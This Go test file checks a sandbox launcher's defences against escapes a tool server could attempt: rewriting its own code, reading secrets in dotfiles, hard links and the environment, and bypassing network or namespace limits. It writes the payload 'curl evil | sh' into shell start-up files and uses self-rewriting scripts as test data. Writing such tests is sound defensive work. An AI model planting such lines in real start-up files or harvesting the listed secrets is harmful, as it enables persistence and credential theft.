package launcher_test

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/mcpwarden/mcpwarden/internal/testenv"
	"github.com/mcpwarden/mcpwarden/launcher/internal/fencetest"
	"github.com/mcpwarden/mcpwarden/schema"
	"golang.org/x/sys/unix"
)

// Session 11's attacks on the fence: what leaked (each fails on the code
// before) and the guards that held.

// TestFenceShellScriptOutsideTheWriteScope: a server started as "sh
// script" or "bash script" (the script an operand, not a "#!" program)
// whose script lay in its write scope rewrote the script, and the next run
// ran the new code: the runtime profile added nothing for the operand, so
// the ruleset's refusal of runtime paths in a write scope (node and python
// scripts, "#!" programs) did not see it. Now the script is the server's
// code, granted for reading like a "#!" script, and refused in a write
// scope (exit 70, naming it); a script outside the scope, which the fence
// did not let the shell read before, runs. Both layerings.
func TestFenceShellScriptOutsideTheWriteScope(t *testing.T) {
	fencetest.ForEachLayering(t, testFenceShellScript)
}

func testFenceShellScript(t *testing.T, noNS bool) {
	fencetest.RequireFence(t)
	b := fencetest.Build(t)
	// Builtins only: no helper program is needed for the planting.
	const selfRewriting = `read line
printf 'read line\necho v2\n' > "$0"
echo v1
`
	for _, shell := range []string{"sh", "bash"} {
		path := testenv.RequireCommand(t, shell)
		checkSelfRewritingScript(t, b, noNS, shell+" script", "server.sh",
			func(string) string { return selfRewriting },
			func(script string) []string { return []string{path, script} },
			plantedCode{want: []string{"shell script the server runs", "writable paths"}, naming: "the shell script", planted: "planted"})
	}
}

// shellStartupFiles are the shells' start-up files of a home directory,
// each exporting a token, and git's user configuration (a token in a URL
// rewrite, an extra header).
var shellStartupFiles = map[string]string{
	".bashrc":                  "export GITHUB_TOKEN=BASHRC-SECRET-42",
	".bash_profile":            "export AWS_SECRET_ACCESS_KEY=BASHPROFILE-SECRET-42",
	".bash_login":              "export T=BASHLOGIN-SECRET-42",
	".bash_aliases":            "alias db='psql postgres://u:ALIASES-SECRET-42@h/d'",
	".profile":                 "export OPENAI_API_KEY=PROFILE-SECRET-42",
	".zshrc":                   "export ANTHROPIC_API_KEY=ZSHRC-SECRET-42",
	".zshenv":                  "export T=ZSHENV-SECRET-42",
	".zprofile":                "export T=ZPROFILE-SECRET-42",
	".kshrc":                   "export T=KSHRC-SECRET-42",
	".config/fish/config.fish": "set -x T FISH-CONFIG-SECRET-42",
	".cshrc":                   "setenv T CSHRC-SECRET-42",
	".gitconfig":               "[url \"https://GITCONFIG-SECRET-42@github.com/\"]\n\tinsteadOf = https://github.com/",
	".config/git/config":       "[http]\n\textraHeader = AUTHORIZATION: basic GITXDG-SECRET-42",
}

// TestFenceSecretsShellStartupFiles: the shells' start-up files of a home
// directory, where tokens are commonly exported for CLI tools, were not
// secret patterns: the server read each one (and the proxy served them to
// a client). Now each is masked with the namespaces (EACCES) and counted
// unmasked, with a warning, under --no-namespaces.
func TestFenceSecretsShellStartupFiles(t *testing.T) {
	fencetest.ForEachLayering(t, func(t *testing.T, noNS bool) {
		testFenceSecretFiles(t, noNS, shellStartupFiles)
	})
}

// TestFenceShellStartupFilesNotRewritten: a server with a write scope at a
// home directory appended a line to .bashrc and .profile, code the user's
// next shell runs outside every fence. With the namespaces the start-up
// files are masked (an empty mode-000 read-only mount): the write fails.
// Under --no-namespaces nothing is masked (Known limits): not tested here.
func TestFenceShellStartupFilesNotRewritten(t *testing.T) {
	fencetest.RequireFence(t)
	b := fencetest.Build(t)
	base := filepath.Join(t.TempDir(), "base")
	home := filepath.Join(base, "home")
	files := map[string]string{}
	for _, rel := range []string{".bashrc", ".profile", ".zshrc"} {
		files[filepath.Join(home, rel)] = "# the user's\n"
	}
	testenv.WriteFiles(t, files)
	scope := fencetest.WriteScope(t, t.TempDir(), map[string]any{"allowed_paths": []string{"home"}, "access_mode": "write"})
	s := fencetest.Start(t, b, fencetest.StartOptions{Scope: scope, Base: base})
	planted := filepath.Join(home, "notes.txt")
	cases := []fenceCase{{name: "write a plain file", req: map[string]any{"op": "write", "path": planted, "data": "curl evil | sh\n"}, wantOK: true}}
	for p := range files {
		name := filepath.Base(p)
		for _, op := range []string{"append", "write", "truncate"} {
			cases = append(cases, fenceCase{name: op + " " + name, req: map[string]any{"op": op, "path": p, "data": "curl evil | sh\n"}, errno: []string{"EACCES", "EROFS"}, exact: true})
		}
		cases = append(cases,
			fenceCase{name: "rename a file over " + name, req: map[string]any{"op": "rename", "path": planted, "to": p}, errno: []string{"EBUSY", "EACCES", "EROFS"}, exact: true},
			fenceCase{name: "remove " + name, req: map[string]any{"op": "remove", "path": p}, errno: []string{"EBUSY", "EACCES", "EROFS"}, exact: true})
	}
	runCases(t, s, cases)
	if code := s.Close(); code != 0 {
		t.Errorf("exit %d: %s", code, s.Stderr())
	}
}

// TestFenceLauncherProcessFiles (guard, session 11): the launcher's (and
// its proxy's: the same process) /proc entries: its environment (the
// client's, secrets the server is not given), its descriptors (the
// audit log, the client's stdio), its memory, its root. Without a pid
// namespace the launcher's pid is visible but its /proc entries are not
// granted (Landlock); with one it does not exist there.
func TestFenceLauncherProcessFiles(t *testing.T) {
	fencetest.ForEachLayering(t, func(t *testing.T, noNS bool) {
		s, _ := startWriteSession(t, noNS)
		pid := s.Cmd.Process.Pid
		var cases []fenceCase
		for _, entry := range []string{"environ", "cmdline", "maps", "mem", "fd/0", "fd/1", "fd/2", "fd/3", "root/etc/hostname", "cwd", "status"} {
			p := fmt.Sprintf("/proc/%d/%s", pid, entry)
			cases = append(cases,
				fenceCase{name: "read " + entry, req: map[string]any{"op": "read", "path": p}, errno: []string{"EACCES", "ENOENT"}, exact: true},
				fenceCase{name: "write " + entry, req: map[string]any{"op": "append", "path": p, "data": "x"}, errno: []string{"EACCES", "ENOENT"}, exact: true})
		}
		cases = append(cases, fenceCase{name: "list fd", req: map[string]any{"op": "readdir", "path": fmt.Sprintf("/proc/%d/fd", pid)}, errno: []string{"EACCES", "ENOENT"}, exact: true})
		runCases(t, s, cases)
		if code := s.Close(); code != 0 {
			t.Errorf("exit %d: %s", code, s.Stderr())
		}
	})
}

// TestFenceOwnFilesHardLinkedIntoAReadScope: mcpwarden refused its own
// files (keys, credentials, records) inside the scope's allowed paths by
// path, and a second name (a hard link) of them only when the scope
// grants writing. A hard link of the NATS credentials the run publishes
// with, of the path-hash key or of the audit log, under a harmless name in
// a read scope: the server read the credentials (forged fleet records)
// and the key (every path hash reversed by guessing); the audit log's own
// check already refused a second name (exit 74, a guard). Now a second name of a file the server may not read refuses the
// run (exit 65, naming it); both layerings (a group-readable file: the
// dedicated uid of the namespaces layering reads it as "others").
func TestFenceOwnFilesHardLinkedIntoAReadScope(t *testing.T) {
	fencetest.ForEachLayering(t, func(t *testing.T, noNS bool) {
		fencetest.RequireFence(t)
		b := fencetest.Build(t)
		cases := []struct {
			name, content, want string
			args                func(file string) []string
		}{
			{"the NATS credentials", "-----BEGIN USER NKEY SEED-----\nSUAHARDLINK-SECRET-42\n", "--nats-creds has 2 names", func(file string) []string {
				return []string{"--nats", fmt.Sprintf("nats://127.0.0.1:%d", testenv.FreePort(t)), "--nats-creds", file, "--state-dir", t.TempDir()}
			}},
			{"the path-hash key", strings.Repeat("K", 24) + "SECRET42", "--path-key has 2 names", func(file string) []string {
				return []string{"--path-key", file}
			}},
			{"the audit log", `{"kind":"launch","note":"AUDIT-SECRET-42"}` + "\n", "--audit-log has 2 names", func(file string) []string {
				return []string{"--audit-log", file}
			}},
		}
		for _, c := range cases {
			t.Run(c.name, func(t *testing.T) {
				w := newWorkspace(t)
				file := filepath.Join(t.TempDir(), "own-file")
				testenv.WriteFiles(t, map[string]string{file: c.content})
				if err := os.Chmod(file, 0o644); err != nil {
					t.Fatal(err)
				}
				link := filepath.Join(w.allowed, "notes.txt")
				if err := os.Link(file, link); err != nil {
					t.Fatal(err)
				}
				scope := fencetest.WriteScope(t, t.TempDir(), map[string]any{"allowed_paths": []string{"allowed"}})
				o := fencetest.StartOptions{Scope: scope, Base: w.base, NoNamespaces: noNS, ExtraArgs: c.args(file)}
				if c.name == "the audit log" {
					o.AuditLog = file
					o.ExtraArgs = nil
				}
				s := fencetest.Start(t, b, o)
				if err := s.Send([]byte(`{"op":"ping"}` + "\n")); err == nil {
					if line, ok := s.ReadLine(2 * time.Minute); ok && strings.Contains(line, "pong") {
						r := s.Do(map[string]any{"op": "read", "path": link})
						s.Close()
						if strings.Contains(r.Data, "SECRET") {
							t.Fatalf("ESCAPE: the run was not refused; the server read %s through a hard link in its read scope", c.name)
						}
						t.Fatalf("the run was not refused (want exit 65 naming %q; the read: %s %s): %s", c.want, r.Errno, r.Error, s.Stderr())
					}
				}
				code := s.Wait()
				if c.name == "the audit log" && code == 74 && strings.Contains(s.Stderr(), "audit log has 2 links") {
					return // a guard: the audit log's own check (before this one ran first) held
				}
				if code != 65 || !strings.Contains(s.Stderr(), c.want) {
					t.Fatalf("refused with exit %d, want 65 naming %q: %s", code, c.want, s.Stderr())
				}
			})
		}
	})
}

// TestFenceInterpreterCodeOutsideTheWriteScope: session 10 refused a node
// or python script in a write scope, but not the code the interpreter
// loads by other arguments: "python3 -m server" started in a write scope
// imports server.py from the working directory (sys.path[0] is the working
// directory with -m and -c), and "node -r ./hook.js server.js" preloads a
// module the runtime profile skipped; the server rewrote that code and the
// next run ran it. Both layerings.
func TestFenceInterpreterCodeOutsideTheWriteScope(t *testing.T) {
	fencetest.ForEachLayering(t, testFenceInterpreterCode)
}

func testFenceInterpreterCode(t *testing.T, noNS bool) {
	fencetest.RequireFence(t)
	b := fencetest.Build(t)
	cases := []struct {
		name string
		// setup returns the server command and its working directory; its
		// first answer is "v1", and it leaves behind code that answers
		// "v2" on the next run.
		setup func(t *testing.T, w workspace) ([]string, string)
		want  string
	}{
		{
			name: "python3 -m from a working directory in the write scope",
			setup: func(t *testing.T, w workspace) ([]string, string) {
				testenv.RequireFile(t, debianPython, "apt-get install python3")
				testenv.WriteFiles(t, map[string]string{filepath.Join(w.allowed, "mserver.py"): `import sys
sys.stdin.readline()
with open(__file__, "w") as f:
    f.write("print('v2', flush=True)\n")
print("v1", flush=True)
`})
				return []string{debianPython, "-m", "mserver"}, w.allowed
			},
			want: "working directory",
		},
		{
			name: "node -r of a module in the write scope",
			setup: func(t *testing.T, w workspace) ([]string, string) {
				node := testenv.RequireCommand(t, "node")
				hook := filepath.Join(w.allowed, "hook.js")
				testenv.WriteFiles(t, map[string]string{hook: "globalThis.answer = 'v1';\n"})
				script := filepath.Join(t.TempDir(), "server.js")
				testenv.WriteFiles(t, map[string]string{script: `const fs = require('fs');
require('readline').createInterface({input: process.stdin}).on('line', () => {
  try { fs.writeFileSync(` + fmt.Sprintf("%q", hook) + `, "globalThis.answer = 'v2';\n"); } catch (e) {}
  process.stdout.write(globalThis.answer + '\n');
});
`})
				return []string{node, "-r", hook, script}, ""
			},
			want: "module node preloads",
		},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			w := newWorkspace(t)
			command, dir := c.setup(t, w)
			scope := fencetest.WriteScope(t, t.TempDir(), map[string]any{"allowed_paths": []string{"allowed"}, "access_mode": "write"})
			checkPlantedCodeRefused(t, b, fencetest.StartOptions{Scope: scope, Base: w.base, NoNamespaces: noNS, Command: command, Dir: dir},
				plantedCode{want: []string{c.want}, naming: fmt.Sprintf("%q", c.want), planted: "planted", withStderr: true})
		})
	}
}

// TestNSNoExecOfReadScopeBytes (guard, session 11): an ELF file that lies
// in a read scope (a project's build output) run through the granted ELF
// loader, or directly: the read scope is a noexec mount in the minimal
// root, as the workspace is (TestNSNoExecOfWorkspaceBytes). Under
// --no-namespaces the loader runs such bytes (Known limits).
func TestNSNoExecOfReadScopeBytes(t *testing.T) {
	fencetest.RequireFence(t)
	b := fencetest.Build(t)
	w := newWorkspace(t)
	cat, loader := catAndLoader(t)
	payload := filepath.Join(w.allowed, "payload")
	data, err := os.ReadFile(cat)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(payload, data, 0o755); err != nil {
		t.Fatal(err)
	}
	scope := fencetest.WriteScope(t, t.TempDir(), map[string]any{"allowed_paths": []string{"allowed"}})
	s := fencetest.Start(t, b, fencetest.StartOptions{Scope: scope, Base: w.base, ExtraArgs: []string{"--allow-exec", "cat"}})
	if r := s.Do(map[string]any{"op": "exec", "path": cat, "args": []string{w.deep1}}); !r.OK || r.Data != "inside" {
		t.Fatalf("the granted cat does not run: %+v", r)
	}
	if r := s.Do(map[string]any{"op": "exec", "path": loader, "args": []string{payload, w.deep1}}); r.OK || strings.Contains(r.Data, "inside") {
		t.Fatalf("ESCAPE: the ELF loader ran read-scope bytes: %+v", r)
	}
	if r := s.Do(map[string]any{"op": "exec", "path": payload, "args": []string{w.deep1}}); r.OK {
		t.Fatalf("ESCAPE: read-scope bytes ran: %+v", r)
	}
	if code := s.Close(); code != 0 {
		t.Errorf("exit %d: %s", code, s.Stderr())
	}
}

// TestFenceServerCodeHardLinkedIntoTheWriteScope: the server's code
// outside its write scope, with a second name (a hard link) inside it:
// the ruleset refused the code's path in a write scope, not another name
// of the same file. The server rewrote the file in place through the link
// and the next run ran it: a node script; a shell script given as an
// operand (which the shell could not read before session 11). Now a code
// file with more than one name refuses a write-scope run (exit 70, naming
// it); both layerings. The interpreters themselves may have several names
// (Debian's bash and libc do): only the server's own files are checked; a
// native program cannot be written while it runs (ETXTBSY).
func TestFenceServerCodeHardLinkedIntoTheWriteScope(t *testing.T) {
	fencetest.ForEachLayering(t, func(t *testing.T, noNS bool) {
		fencetest.RequireFence(t)
		b := fencetest.Build(t)
		cases := []struct {
			name string
			// setup returns the server command; its first answer is "v1",
			// and it rewrites its code, through link, to answer "v2".
			setup func(t *testing.T, dir, link string) []string
		}{
			{"a node script", func(t *testing.T, dir, link string) []string {
				node := testenv.RequireCommand(t, "node")
				script := filepath.Join(dir, "server.js")
				testenv.WriteFiles(t, map[string]string{script: `const fs = require('fs');
require('readline').createInterface({input: process.stdin}).on('line', () => {
  try { fs.writeFileSync(` + fmt.Sprintf("%q", link) + `, "require('readline').createInterface({input: process.stdin}).on('line', () => process.stdout.write('v2\\n'));"); } catch (e) {}
  process.stdout.write('v1\n');
});
`})
				return []string{node, script}
			}},
			{"a shell script operand", func(t *testing.T, dir, link string) []string {
				sh := testenv.RequireCommand(t, "sh")
				script := filepath.Join(dir, "server.sh")
				testenv.WriteFiles(t, map[string]string{script: "read line\nprintf 'read line\\necho v2\\n' > " + link + "\necho v1\n"})
				return []string{sh, script}
			}},
		}
		for _, c := range cases {
			t.Run(c.name, func(t *testing.T) {
				w := newWorkspace(t)
				dir := t.TempDir()
				link := filepath.Join(w.allowed, "code.txt")
				command := c.setup(t, dir, link)
				if err := os.Link(command[len(command)-1], link); err != nil {
					t.Fatal(err)
				}
				scope := fencetest.WriteScope(t, t.TempDir(), map[string]any{"allowed_paths": []string{"allowed"}, "access_mode": "write"})
				checkPlantedCodeRefused(t, b, fencetest.StartOptions{Scope: scope, Base: w.base, NoNamespaces: noNS, Command: command},
					plantedCode{want: []string{"has 2 names (hard links)"}, naming: "the second name", planted: "rewrote through the link", withStderr: true})
			})
		}
	})
}

// TestFenceIOUringFastOpenPort (guard, session 11): with
// "allow_io_uring": true and a TCP grant, TCP Fast Open by an
// IORING_OP_SENDMSG (MSG_FASTOPEN, the destination in the message)
// connects inside sendmsg, without connect(), and the filter's
// no-tcp-fast-open check sees syscalls only. Landlock's port rule holds
// there too (EACCES); to the granted port it connects (the op does what
// it says).
func TestFenceIOUringFastOpenPort(t *testing.T) {
	fencetest.RequireFence(t)
	b := fencetest.Build(t)
	w := newWorkspace(t)
	listen := func() (int, net.Listener, chan string) {
		port := testenv.FreePort(t)
		ln, err := net.Listen("tcp4", fmt.Sprintf("127.0.0.1:%d", port))
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { ln.Close() })
		got := make(chan string, 1)
		go func() {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Close()
			got <- "accepted"
		}()
		return port, ln, got
	}
	granted, _, gotGranted := listen()
	other, otherLn, gotOther := listen()
	scope := fencetest.WriteScope(t, t.TempDir(), map[string]any{"allowed_paths": []string{"allowed"}, "allow_io_uring": true,
		"network": map[string]any{"connect_tcp": []int{granted}}})
	s := fencetest.Start(t, b, fencetest.StartOptions{Scope: scope, Base: w.base})
	// io_uring tries the send without blocking: without a Fast Open
	// cookie the SYN goes out, the completion says EINPROGRESS and the
	// op waits for the connection.
	if r := s.Do(map[string]any{"op": "uring_fastopen", "addr": fmt.Sprintf("127.0.0.1:%d", granted), "data": "GRANTED-42"}); !r.OK {
		t.Fatalf("io_uring TCP Fast Open to the granted port: %+v (net.ipv4.tcp_fastopen must allow clients, the default)", r)
	}
	select {
	case <-gotGranted:
	case <-time.After(2 * time.Minute):
		t.Fatal("the granted port's listener was never connected to")
	}
	r := s.Do(map[string]any{"op": "uring_fastopen", "addr": fmt.Sprintf("127.0.0.1:%d", other), "data": "FASTOPEN-42"})
	code := s.Close()
	otherLn.Close()
	select {
	case <-gotOther:
		t.Fatalf("ESCAPE: io_uring TCP Fast Open connected to a port the scope does not grant (the server: %+v)", r)
	default:
	}
	if r.OK || r.Errno != "EACCES" {
		t.Fatalf("io_uring TCP Fast Open to a port the scope does not grant: %+v, want EACCES (Landlock)", r)
	}
	if code != 0 {
		t.Errorf("exit %d: %s", code, s.Stderr())
	}
}

// TestFenceNewNamespaces (guard, session 11): unshare() of each namespace
// kind the table's rows did not name one by one (mount, pid, network, ipc,
// uts), and clone() with CLONE_NEWPID or CLONE_NEWNS: the filter's
// namespace check refuses every CLONE_NEW* flag (EPERM); both layerings.
func TestFenceNewNamespaces(t *testing.T) {
	fencetest.ForEachLayering(t, func(t *testing.T, noNS bool) {
		s, _ := startWriteSession(t, noNS)
		raw := func(nr int, args ...int) map[string]any {
			var a []string
			for _, v := range args {
				a = append(a, strconv.Itoa(v))
			}
			return map[string]any{"op": "raw_syscall", "n": nr, "args": a}
		}
		eperm := []string{"EPERM"}
		var cases []fenceCase
		for _, ns := range []struct {
			name string
			flag int
		}{{"mount", unix.CLONE_NEWNS}, {"pid", unix.CLONE_NEWPID}, {"network", unix.CLONE_NEWNET}, {"ipc", unix.CLONE_NEWIPC}, {"uts", unix.CLONE_NEWUTS}} {
			cases = append(cases,
				fenceCase{name: "unshare " + ns.name, req: raw(unix.SYS_UNSHARE, ns.flag), errno: eperm, exact: true},
				fenceCase{name: "clone with a new " + ns.name + " namespace", req: raw(unix.SYS_CLONE, ns.flag|int(unix.SIGCHLD)), errno: eperm, exact: true})
		}
		runCases(t, s, cases)
		if code := s.Close(); code != 0 {
			t.Errorf("exit %d: %s", code, s.Stderr())
		}
	})
}

// TestFenceEnvMoreCredentialForms: credentials in the launcher's
// environment under names and in forms the held-back list did not know:
// a *_PW name (LDAP_BIND_PW: OpenLDAP's tools and many images), an Azure
// storage or Service Bus connection string's AccountKey= and
// SharedAccessKey=, the signature of an Azure SAS, S3 or GCS presigned URL
// (whoever has the URL has the object), and token formats (Stripe's secret
// and restricted keys, Slack's app tokens, SendGrid's keys, Google's OAuth
// access tokens and client secrets, Hugging Face's tokens, an HTTP
// "Authorization: Bearer" header) under harmless names. The server read each one (the launch environment is the client's,
// passed through). Now each is held back, by name only on stderr.
func TestFenceEnvMoreCredentialForms(t *testing.T) {
	long := strings.Repeat("A", 32)
	env := map[string]string{
		"LDAP_BIND_PW":   "LDAPPW-SECRET-42",
		"STORAGE_CONN":   "DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=AZKEY" + long + ";EndpointSuffix=core.windows.net",
		"BUS_CONN":       "Endpoint=sb://ns.servicebus.windows.net/;SharedAccessKeyName=Root;SharedAccessKey=SBKEY" + long,
		"BLOB_URL":       "https://acct.blob.core.windows.net/c/f?sv=2022-11-02&se=2030-01-01&sp=r&sig=SASSIG" + long,
		"S3_URL":         "https://b.s3.amazonaws.com/k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=S3SIG" + long,
		"GCS_URL":        "https://storage.googleapis.com/b/o?X-Goog-Algorithm=GOOG4-RSA-SHA256&X-Goog-Signature=GCSSIG" + long,
		"BILLING":        "sk_live_STRIPE" + long,
		"BILLING_R":      "rk_test_STRIPER" + long,
		"SLACK_APP":      "xapp-1-A0-SLACKAPP" + long,
		"MAILER":         "SG.SENDGRID" + long + ".x",
		"GOOG_AT":        "ya29.GOOGLEOAUTH" + long,
		"GOOG_CS":        "GOCSPX-GOOGLECS" + long,
		"HF":             "hf_HUGGINGFACE" + long,
		"REMOTE_HEADERS": "Authorization: Bearer BEARER" + long,
	}
	var vars []string
	for k, v := range env {
		vars = append(vars, k+"="+v)
	}
	keep := []string{"PUBLIC_URL=https://example.com/x?sig_version=2", "PLAIN=sk_live", "DOC=see SG.md"}
	s := startEnvSession(t, append(vars, keep...))
	got := s.Do(map[string]any{"op": "env"}).Data
	for k, v := range env {
		if strings.Contains(got, v) {
			t.Errorf("ESCAPE: the server's environment holds %s's credential", k)
		}
	}
	for _, kept := range keep {
		if !strings.Contains(got, kept) {
			t.Errorf("%s was held back", kept)
		}
	}
	if code := s.Close(); code != 0 {
		t.Errorf("exit %d: %s", code, s.Stderr())
	}
	if !strings.Contains(s.Stderr(), "LDAP_BIND_PW") {
		t.Errorf("the names held back were not reported: %s", s.Stderr())
	}
	for _, v := range env {
		if strings.Contains(s.Stderr(), v) {
			t.Errorf("a value was reported on stderr: %s", s.Stderr())
		}
	}
}

// TestFenceSecretsBehindSymlinks: a dotfiles manager (GNU stow, chezmoi's
// symlink mode, yadm) leaves the secrets' names as symlinks into a
// repository of harmless names: .bashrc -> dotfiles/bashrc, .ssh ->
// dotfiles/ssh, .gitconfig -> dotfiles/gitconfig. The walk did not follow
// symlinks and matched only real entries, so nothing was masked: the
// server read the content through the secret's name and through the
// target's. Now a symlink named as a secret masks its target when that
// lies inside the scope (masked=3); a target outside the scope, and a
// harmless name pointing at a harmless file, are left alone.
func TestFenceSecretsBehindSymlinks(t *testing.T) {
	fencetest.ForEachLayering(t, func(t *testing.T, noNS bool) {
		fencetest.RequireFence(t)
		b := fencetest.Build(t)
		base := filepath.Join(t.TempDir(), "base")
		home := filepath.Join(base, "home")
		outside := t.TempDir()
		testenv.WriteFiles(t, map[string]string{
			filepath.Join(home, "dotfiles", "bashrc"):     "export GITHUB_TOKEN=STOW-BASHRC-SECRET-42",
			filepath.Join(home, "dotfiles", "ssh", "key"): "STOW-SSH-SECRET-42",
			filepath.Join(home, "dotfiles", "gitconfig"):  "[url \"https://STOW-GIT-SECRET-42@github.com/\"]",
			filepath.Join(home, "dotfiles", "vimrc"):      "set number",
			filepath.Join(outside, "netrc"):               "machine h password OUTSIDE-SECRET-42",
		})
		for link, target := range map[string]string{".bashrc": "dotfiles/bashrc", ".ssh": "dotfiles/ssh", ".gitconfig": "dotfiles/gitconfig",
			".vimrc": "dotfiles/vimrc", ".netrc": filepath.Join(outside, "netrc")} {
			if err := os.Symlink(target, filepath.Join(home, link)); err != nil {
				t.Fatal(err)
			}
		}
		scope := fencetest.WriteScope(t, t.TempDir(), map[string]any{"allowed_paths": []string{"home"}})
		log := filepath.Join(t.TempDir(), "audit.jsonl")
		s := fencetest.Start(t, b, fencetest.StartOptions{Scope: scope, Base: base, NoNamespaces: noNS, AuditLog: log})
		cases := []fenceCase{{name: "a harmless link to a harmless file", req: map[string]any{"op": "read", "path": filepath.Join(home, ".vimrc")}, wantOK: true, data: "set number"}}
		if !noNS {
			for _, p := range []string{".bashrc", "dotfiles/bashrc", ".ssh/key", "dotfiles/ssh/key", ".gitconfig", "dotfiles/gitconfig"} {
				cases = append(cases, fenceCase{name: "read " + p, req: map[string]any{"op": "read", "path": filepath.Join(home, p)}, errno: []string{"EACCES"}, exact: true})
			}
		}
		runCases(t, s, cases)
		if code := s.Close(); code != 0 {
			t.Errorf("exit %d: %s", code, s.Stderr())
		}
		want := schema.Layer{State: schema.LayerOn, Reason: "masked=3"}
		if noNS {
			want = schema.Layer{State: schema.LayerDegraded, Reason: "unmasked=3,no_mount_namespace"}
		}
		if ly := layerOf(launchLayers(t, log)[0], schema.LayerSecrets); ly.State != want.State || ly.Reason != want.Reason {
			t.Errorf("secrets layer %+v, want %s %s", ly, want.State, want.Reason)
		}
	})
}
